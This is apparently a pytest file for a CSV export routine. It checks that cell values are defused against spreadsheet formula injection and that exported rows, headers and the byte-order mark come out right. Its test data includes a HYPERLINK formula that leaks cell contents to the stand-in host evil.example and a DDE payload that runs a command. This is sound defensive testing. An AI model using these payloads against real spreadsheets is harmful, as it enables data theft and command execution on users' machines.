from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from flowengine.server.api.flows import COLUMNS, defused, written
from flowengine.server.api.given import Fact

FORMULAS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("https://evil.example?"&A1)', '\'=HYPERLINK("https://evil.example?"&A1)'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),
    ("-5\n", "'-5\n"),
    # Figures stay figures, and so does everything that no spreadsheet runs.
    ("-5", "-5"),
    ("+380501112233", "+380501112233"),
    ("-1.5", "-1.5"),
    ("1=1", "1=1"),
    ("", ""),
    ("Олена", "Олена"),
]


@pytest.mark.parametrize(("text", "shown"), FORMULAS)
def test_no_cell_is_a_formula(text: str, shown: str) -> None:
    assert defused(text) == shown


def fact(kind: str = "saved", **body: Any) -> Fact:
    return Fact(conversation="c1", at="2026-01-31T09:00:00.000000Z", kind=kind, body=body)


def rows(*facts: Fact) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written(facts).decode("utf-8-sig"))))


def test_a_table_has_a_row_for_each_result() -> None:
    found = rows(
        fact(name="Day", value="2026-03-01", category="Sunday", raw='on "Sunday", early'),
        fact(name="Beds", value=3, category="3", raw="three\nor so"),
        fact(name="Place", value={"lat": 1.5}, category="", raw="=x"),
        fact(name="Skipped", value=None, category="", raw=""),
    )
    assert [one["value"] for one in found] == ["2026-03-01", "3", '{"lat":1.5}', ""]
    assert found[0]["raw"] == 'on "Sunday", early'
    assert found[1]["raw"] == "three\nor so"
    assert found[2]["raw"] == "'=x"
    assert {one["conversation"] for one in found} == {"c1"}


def test_tags_and_notes_have_their_words_in_the_same_column() -> None:
    found = rows(
        fact("tagged", subject="contact", tag="urgent"), fact("noted", text="=call", queue="desk")
    )
    assert [(one["name"], one["value"]) for one in found] == [
        ("contact", "urgent"),
        ("desk", "'=call"),
    ]


def test_an_empty_table_has_its_head() -> None:
    assert written([]).decode("utf-8-sig").strip() == ",".join(COLUMNS)


def test_a_spreadsheet_knows_the_letters() -> None:
    assert written([]).startswith(b"\xef\xbb\xbf")
